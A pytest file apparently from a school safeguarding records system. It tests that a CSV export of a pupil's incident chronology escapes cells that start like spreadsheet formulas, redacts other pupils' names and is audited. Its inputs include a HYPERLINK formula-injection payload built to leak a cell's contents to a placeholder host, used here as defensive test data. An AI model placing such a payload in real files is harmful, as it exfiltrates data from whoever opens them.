"""The chronology as CSV: the PDF's rows for a spreadsheet, UTF-8 with a byte-order mark,
and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import pytest

from safeguarding.audit.models import AuditEvent
from safeguarding.records.spreadsheet import HEADER, neutralise
from tests.safeguarding.records.helpers import csv_rows, days_ago, export
from tests.sessions import signed_in, verified_viewer


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
        "+44 7700 900123",
        "-2+3",
        "@SUM(A1:A2)",
        "\tleading tab",
        "\rleading carriage return",
        "=",
        "+",
        "-",
        "@",
        "\uff1dSUM(A1)",  # a full-width equals sign
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Spoke to mum.",
        "#12",
        "2026-11-23 09:30",
        "a=b",
        "1+1",
        "email@school.example",
        " =1+1",  # a leading space: spreadsheets read it as text already
        "'=already text",
        "\n=on the next line",
        "Résumé",
    ],
)
def test_any_other_cell_is_left_as_it_is(cell):
    assert neutralise(cell) == cell


def test_the_csv_has_a_header_and_one_row_per_incident_action_and_change(abbey, case):
    response = export(signed_in(abbey, case["dsl"]), case["amara"].pk, format="csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    rows = csv_rows(response.content)
    assert tuple(rows[0]) == HEADER
    pushed = case["pushed"].reference
    assert [(row[1], row[2]) for row in rows[1:] if row[2] == pushed] == [
        ("Incident", pushed), ("Action: Phone call", pushed), ("Change: Status changed", pushed),
    ]  # fmt: skip
    assert len(rows) == 1 + 4 + 2
    incident = next(row for row in rows if row[2] == pushed and row[1] == "Incident")
    assert incident[3:8] == ["Bullying", "Closed", "", incident[6], "This pupil"]
    assert incident[6].startswith("Robin Lead")
    assert incident[10] == (
        "Amara Okafor said she was pushed. [another pupil] saw it; [another pupil]'s coat was torn."
    )
    about_cara = next(row for row in rows if row[2] == case["about_cara"].reference)
    assert about_cara[7:9] == ["[another pupil]", "Victim"]
    assert "Cara" not in response.content.decode("utf-8-sig")


def test_text_that_would_be_a_formula_is_neutralised_in_the_file(abbey, case):
    from safeguarding.concerns.models import Category
    from safeguarding.concerns.services import add_action, record_incident

    with abbey:
        viewer = verified_viewer(case["dsl"])
        incident = record_incident(
            viewer=viewer, pupil_id=case["amara"].pk, occurred_at=days_ago(1),
            text='=HYPERLINK("http://example.invalid","open")',
            category_ids=[Category.objects.get(name="Behaviour").pk],
        )  # fmt: skip
        add_action(viewer=viewer, incident_id=incident.pk, kind="note", text="-1 merit point")
    rows = csv_rows(export(signed_in(abbey, case["dsl"]), case["amara"].pk, format="csv").content)
    texts = [row[10] for row in rows if row[2] == incident.reference]
    assert texts == ['\'=HYPERLINK("http://example.invalid","open")', "'-1 merit point"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_csv_export_is_audited(abbey, case):
    export(signed_in(abbey, case["dsl"]), case["amara"].pk, format="csv", hide_other_pupils=None)
    with abbey:
        event = AuditEvent.objects.get(action="export")
    assert event.details["format"] == "csv"
    assert event.details["redacted"] is False
    assert event.details["incidents"] == 4 and event.details["actions"] == 1
